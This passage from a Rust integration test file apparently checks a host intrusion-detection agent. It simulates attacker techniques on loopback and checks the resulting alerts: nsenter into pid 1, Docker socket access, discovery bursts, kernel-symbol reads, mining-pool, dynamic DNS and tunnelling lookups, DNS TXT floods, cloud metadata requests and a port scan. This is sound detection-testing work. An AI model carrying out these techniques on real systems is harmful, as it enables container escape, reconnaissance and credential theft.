        &["by nsenter", "cmdline=nsenter -t 1 -m -- /bin/true"],
    );

    // the docker API socket, whether or not docker is installed; near miss: docker's own CLI
    let connect = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect_ex('/var/run/docker.sock')\ns.close()\n";
    let docker = r.named("docker", PY);
    let cli = r.ok(&[&docker, "-c", connect]);
    let py = r.python(connect, &[]);
    let a = r.expect_alert(
        &agent,
        "Container engine socket accessed by an unexpected process",
        pid_is(py.pid),
    );
    check(&a, "ERROR", "T1611", &["/var/run/docker.sock accessed by python3"]);

    let lines = agent.lines();
    for rule in ["Host root filesystem bind-mounted", "Disk device mounted by hand"] {
        r.assert_quiet(&lines, rule, "unshare and tmpfs", |v| in_tree(v, quiet.pid));
    }
    r.assert_quiet(&lines, "Namespaces of pid 1 entered", "nsenter into the runner", |v| {
        in_tree(v, own.pid)
    });
    r.assert_quiet(
        &lines,
        "Container engine socket accessed by an unexpected process",
        "docker CLI",
        pid_is(cli.pid),
    );
    agent.stop();
}

// ---------------------------------------------------------------------------------------
// Discovery
// ---------------------------------------------------------------------------------------

#[test]
fn kernel_symbols_fingerprinting_and_discovery_bursts() {
    let r = Runner::start("disc");
    let agent = Agent::start(&[]);
    let discovery = "whoami >/dev/null; id >/dev/null; uname -a >/dev/null; hostname >/dev/null; uptime >/dev/null; nproc >/dev/null";
    let fingerprint = "/etc/os-release /proc/cpuinfo /proc/meminfo /proc/version /etc/hostname";
    // near misses: a configuration-management run gathering facts, a metrics exporter
    // reading the host's files, a tracer reading kernel symbols
    let ansible = r.named("ansible-playbook", "/bin/dash");
    let exporter = r.named("node_exporter", "/bin/cat");
    let perf = r.named("perf", "/usr/bin/head");
    r.sh_as(&ansible, discovery);
    r.sh(&format!("{exporter} {fingerprint} > /dev/null"));
    let traced = r.ok(&[&perf, "-c", "64", "/proc/kallsyms"]);

    let k = r.ok(&["/usr/bin/head", "-c", "64", "/proc/kallsyms"]);
    let a = r.expect_alert(&agent, "Kernel symbols or memory read", pid_is(k.pid));
    check(&a, "NOTICE", "T1082", &["/proc/kallsyms read by head"]);

    r.sh(&format!("cat {fingerprint} > /dev/null"));
    let a = r.expect_alert(&agent, "Host fingerprinting burst", name_is("cat"));
    check(
        &a,
        "NOTICE",
        "T1082",
        &["Host fingerprinting: cat", "read 4 fingerprint files"],
    );
    assert_eq!(a["evt"]["type"], "fingerprint_burst");

    let d = r.sh(discovery);
    let a = r.expect_alert(&agent, "Discovery command burst", pid_is(d.pid));
    check(
        &a,
        "NOTICE",
        "T1082",
        &[
            "Discovery burst: sh",
            "ran 5 distinct discovery commands",
            "the last uptime",
        ],
    );

    let lines = agent.lines();
    r.assert_quiet(&lines, "Discovery command burst", "ansible", name_is("ansible-playboo"));
    r.assert_quiet(
        &lines,
        "Host fingerprinting burst",
        "node_exporter",
        name_is("node_exporter"),
    );
    r.assert_quiet(&lines, "Kernel symbols or memory read", "perf", pid_is(traced.pid));
    agent.stop();
}

// ---------------------------------------------------------------------------------------
// Network
// ---------------------------------------------------------------------------------------

/// A DNS server on 127.0.0.1 answering A queries from a table (NXDOMAIN otherwise); TXT
/// and other queries are read and left unanswered.
struct DnsServer {
    port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl DnsServer {
    fn start(table: Vec<(String, [u8; 4])>) -> DnsServer {
        let sock = UdpSocket::bind("127.0.0.1:0").expect("dns socket");
        sock.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
        let port = sock.local_addr().unwrap().port();
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while !flag.load(Ordering::Relaxed) {
                let Ok((n, from)) = sock.recv_from(&mut buf) else {
                    continue;
                };
                let Some((id, name, qtype)) = parse_query(&buf[..n]) else {
                    continue;
                };
                if qtype != 1 {
                    continue;
                }
                let resp = match table.iter().find(|(n, _)| *n == name) {
                    Some((_, ip)) => dns_message(id, 0x8180, &name, 1, &[answer(1, ip)]),
                    None => dns_message(id, 0x8183, &name, 1, &[]),
                };
                let _ = sock.send_to(&resp, from);
            }
        });
        DnsServer {
            port,
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for DnsServer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A raw DNS client: `a NAME [PORT]` resolves NAME (and connects to the answer on PORT),
/// `txt N SUFFIX` sends N TXT queries without waiting.
const DNS_CLIENT_PY: &str = r#"
import json, random, socket, struct, sys
port = int(sys.argv[1])
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
def query(name, qtype, wait):
    qid = random.randint(1, 65535)
    msg = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    msg += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    msg += struct.pack('>HH', qtype, 1)
    u.sendto(msg, ('127.0.0.1', port))
    if not wait:
        return None
    r, _ = u.recvfrom(2048)
    return '.'.join(str(b) for b in r[-4:]) if struct.unpack('>H', r[6:8])[0] else None
for step in json.loads(sys.argv[2]):
    if step[0] == 'a':
        ip = query(step[1], 1, True)
        if len(step) > 2:
            assert ip, 'no answer for ' + step[1]
            socket.create_connection((ip, step[2]), timeout=3).close()
    elif step[0] == 'txt':
        for i in range(step[1]):
            query('t%d.%s' % (i, step[2]), 16, False)
"#;

fn random_label(len: usize) -> String {
    let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let mut seed = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
        | 1;
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            alphabet[(seed % alphabet.len() as u64) as usize] as char
        })
        .collect()
}

#[test]
fn dns_watch_lists_tunnelling_and_named_connections() {
    // services the answers point to, on loopback
    let names = [
        ("x.pool.supportxmr.com", [127, 0, 0, 61]),
        ("abc.duckdns.org", [127, 0, 0, 62]),
        ("metadata.google.internal", [127, 0, 0, 63]),
        ("abcd.ngrok-free.app", [127, 0, 0, 64]),
        ("pastebin.com", [127, 0, 0, 65]),
    ];
    let listeners: Vec<TcpListener> = names
        .iter()
        .map(|(_, ip)| TcpListener::bind((std::net::Ipv4Addr::from(*ip), 0)).expect("listen on loopback"))
        .collect();
    let port_of = |i: usize| listeners[i].local_addr().unwrap().port();
    let dns = DnsServer::start(names.iter().map(|(n, ip)| (n.to_string(), *ip)).collect());
    let r = Runner::start("net-dns");
    let agent = Agent::start(&["--dns-port", &dns.port.to_string()]);
    let dns_port = dns.port.to_string();
    let client = |exe: &str, plan: Value| r.ok(&[exe, "-c", DNS_CLIENT_PY, &dns_port, &plan.to_string()]);

    // near misses: a resolver forwarding a miner's question, a browser visiting a paste
    // site, a long label that reads like words, a few TXT lookups
    let unbound = r.named("unbound", PY);
    let firefox = r.named("firefox", PY);
    let resolver = client(&unbound, json!([["a", "x.pool.supportxmr.com"]]));
    let browser = client(&firefox, json!([["a", "pastebin.com"]]));
    let wordy = "a-very-long-internal-service-name-for-kubernetes.default.svc.cluster.local";
    let few = client(PY, json!([["a", wordy], ["txt", 10, "spf.vigil.test"]]));

    let miner = client(PY, json!([["a", "x.pool.supportxmr.com", port_of(0)]]));
    let a = r.expect_alert(&agent, "DNS lookup of a mining pool", pid_is(miner.pid));
    check(
        &a,
        "ERROR",
        "T1496",
        &["Mining pool x.pool.supportxmr.com (A) looked up by python3"],
    );
    let a = r.expect_alert(&agent, "Connection to a mining pool", pid_is(miner.pid));
    check(
        &a,
        "ERROR",
        "T1496",
        &[&format!("127.0.0.61:{}", port_of(0)), "x.pool.supportxmr.com"],
    );

    let c2 = client(
        PY,
        json!([
            ["a", "abc.duckdns.org", port_of(1)],
            ["a", "abcd.ngrok-free.app", port_of(3)],
            ["a", "pastebin.com", port_of(4)],
            ["a", "metadata.google.internal", port_of(2)]
        ]),
    );
    let a = r.expect_alert(&agent, "DNS lookup of a dynamic DNS domain", pid_is(c2.pid));
    check(
        &a,
        "WARNING",
        "T1568",
        &["Dynamic DNS name abc.duckdns.org (A) looked up by python3"],
    );
    let a = r.expect_alert(
        &agent,
        "DNS lookup of a tunnelling or out-of-band service",
        pid_is(c2.pid),
    );
    check(&a, "WARNING", "T1572", &["abcd.ngrok-free.app (A)"]);
    let a = r.expect_alert(&agent, "DNS lookup of a paste or file-drop site", pid_is(c2.pid));
    check(&a, "WARNING", "T1102", &["pastebin.com (A)"]);
    for (i, name) in [(1, "abc.duckdns.org"), (3, "abcd.ngrok-free.app"), (4, "pastebin.com")] {
        let a = r.expect_alert(&agent, "Connection to a dynamic DNS, paste or tunnelling host", |v| {
            v["proc"]["pid"] == c2.pid && v["fd"]["rport"] == port_of(i) as u64
        });
        check(&a, "WARNING", "T1568", &[name, "by python3"]);
    }
    let a = r.expect_alert(&agent, "Cloud metadata requested", pid_is(c2.pid));
    check(
        &a,
        "NOTICE",
        "T1552.005",
        &["metadata.google.internal", "contacted by python3"],
    );

    let long = format!("{}.t.vigil.test", random_label(60));
    let tunnel = client(PY, json!([["a", long], ["txt", 45, "c2.vigil.test"]]));
    let a = r.expect_alert(&agent, "DNS query with a long random label", pid_is(tunnel.pid));
    check(&a, "WARNING", "T1071.004", &["Long random DNS label (60 chars", &long]);
    let entropy = a["alert"]["output"]
        .as_str()
        .and_then(|o| o.split("entropy ").nth(1))
        .and_then(|e| e.split(' ').next())
        .and_then(|e| e.parse::<u64>().ok())
        .expect("entropy in the output");
    assert!(entropy >= 3700, "entropy {entropy}");
    let a = r.expect_alert(&agent, "DNS TXT query flood", pid_is(tunnel.pid));
    check(
        &a,
        "WARNING",
        "T1071.004",
        &["40 TXT queries in 60 s by python3", "c2.vigil.test"],
    );

    let lines = agent.lines();
    r.assert_quiet(&lines, "DNS lookup of a mining pool", "resolver", pid_is(resolver.pid));
    r.assert_quiet(
        &lines,
        "DNS lookup of a paste or file-drop site",
        "browser",
        pid_is(browser.pid),
    );
    r.assert_quiet(
        &lines,
        "DNS query with a long random label",
        "wordy label",
        pid_is(few.pid),
    );
    r.assert_quiet(&lines, "DNS TXT query flood", "10 TXT queries", pid_is(few.pid));
    agent.stop();
    drop(listeners);
}

/// A non-blocking connect (the attempt is what is seen): `connect(host, port)`.
fn nb_connect(host: &str, port: u16) -> String {
    let family = if host.contains(':') {
        "socket.AF_INET6"
    } else {
        "socket.AF_INET"
    };
    format!(
        "import socket\ns = socket.socket({family}, socket.SOCK_STREAM)\ns.setblocking(False)\ns.connect_ex(({host:?}, {port}))\ns.close()\n"
    )
}

#[test]
fn metadata_scans_servers_calling_out_and_raw_sockets() {
    let r = Runner::start("net-conn");
    let agent = Agent::start(&[]);

    // near misses: the cloud guest agent reading metadata; a web server reaching HTTPS
    // (OCSP, an upstream API) and a loopback upstream; a browser on a pool-like port;
    // ping's raw ICMP socket
    let cloud_init = r.named("cloud-init", PY);
    let nginx = r.named("nginx", PY);
    let firefox = r.named("firefox", PY);
    let ping = r.named("ping", PY);
    let q1 = r.ok(&[&cloud_init, "-c", &nb_connect("169.254.169.254", 80)]);
    let q2 = r.ok(&[
        &nginx,
        "-c",
        &format!("{}{}", nb_connect("192.0.2.10", 443), nb_connect("127.0.0.1", 9)),
    ]);
    let q3 = r.ok(&[&firefox, "-c", &nb_connect("192.0.2.10", 3333)]);
    let q4 = r.ok(&[
        &ping,
        "-c",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()\n",
    ]);

    let m = r.python(&nb_connect("169.254.169.254", 80), &[]);
    let a = r.expect_alert(&agent, "Cloud metadata requested", pid_is(m.pid));
    check(
        &a,
        "NOTICE",
        "T1552.005",
        &["Metadata service 169.254.169.254:80", "by python3"],
    );
    let m6 = r.python(&nb_connect("fd00:ec2::254", 80), &[]);
    let a = r.expect_alert(&agent, "Cloud metadata requested", pid_is(m6.pid));
    check(&a, "NOTICE", "T1552.005", &["fd00:ec2::254"]);
    let from_sh = r.sh(&format!(
        "{PY} -c '{}'",
        nb_connect("169.254.169.254", 80).replace('\'', "\"")
    ));
    let a = r.expect_alert(&agent, "Cloud metadata requested from a shell tool", |v| {
        v["ancestors"][0]["pid"] == from_sh.pid
    });
    check(&a, "WARNING", "T1552.005", &["169.254.169.254:80", "parent=sh"]);

    // 20 closed loopback ports: ports we bound and released
    let ports: Vec<u16> = (0..20)
        .map(|_| TcpListener::bind("127.0.0.1:0").unwrap())
        .collect::<Vec<_>>()
        .iter()
        .map(|l| l.local_addr().unwrap().port())
        .collect();
    let scan = r.python(
        "import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket()\n    s.connect_ex(('127.0.0.1', int(p)))\n    s.close()\n",
        &ports.iter().map(|p| p.to_string()).collect::<Vec<_>>().iter().map(String::as_str).collect::<Vec<_>>(),
    );
    let a = r.expect_alert(&agent, "Outbound port scan", pid_is(scan.pid));
    check(
        &a,
        "WARNING",
        "T1046",
        &[
            "Port scan by python3",
            "15 failed connections",
            "the last to 127.0.0.1:",
        ],
    );

    // a web server (python named nginx) reaching a public address on an odd port, then a
    // shell it started calling out
    let odd = r.ok(&[&nginx, "-c", &nb_connect("192.0.2.10", 8081)]);
    let a = r.expect_alert(&agent, "Web server connected to an unusual port", pid_is(odd.pid));
    check(
        &a,
        "WARNING",
        "T1071",
        &["Web server nginx connected to 192.0.2.10:8081"],
    );
    let child = r.ok(&[
        &nginx,
        "-c",
        &format!(
            "import subprocess\nsubprocess.run(['/bin/sh', '-c', {:?}], check=True)\n",
            format!("{PY} -c '{}'\n:", nb_connect("192.0.2.10", 80).replace('\'', "\""))
        ),
    ]);
    let a = r.expect_alert(&agent, "Outbound connection from a web server child process", |v| {
        in_tree(v, child.pid)
    });
    check(
        &a,
        "ERROR",
        "T1071",
        &[
            "Outbound connection to 192.0.2.10:80",
            "by python3 under a web server",
            "parent=sh",
        ],
    );

    let pool = r.python(&nb_connect("192.0.2.10", 3333), &[]);
    let a = r.expect_alert(&agent, "Connection to a mining pool port", pid_is(pool.pid));
    check(
        &a,
        "WARNING",
        "T1496",
        &["192.0.2.10:3333", "a mining pool port, by python3"],
    );

    let raw = r.python(
        "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()\n",
        &[],
    );
    let a = r.expect_alert(
        &agent,
        "Raw or packet socket opened by an unexpected process",
        pid_is(raw.pid),
    );
    check(
        &a,
        "WARNING",
        "T1040",
        &["domain AF_PACKET, type 3", "by python3", "res=SUCCESS"],
    );

    let lines = agent.lines();
    for rule in ["Cloud metadata requested", "Cloud metadata requested from a shell tool"] {
        r.assert_quiet(&lines, rule, "cloud-init", pid_is(q1.pid));
    }
    for rule in [
        "Web server connected to an unusual port",
        "Outbound connection from a web server child process",
    ] {
        r.assert_quiet(&lines, rule, "nginx to 443 and loopback", pid_is(q2.pid));
    }
    r.assert_quiet(&lines, "Connection to a mining pool port", "browser", pid_is(q3.pid));
    r.assert_quiet(
        &lines,
        "Raw or packet socket opened by an unexpected process",
        "ping",
        pid_is(q4.pid),
    );
    agent.stop();
}
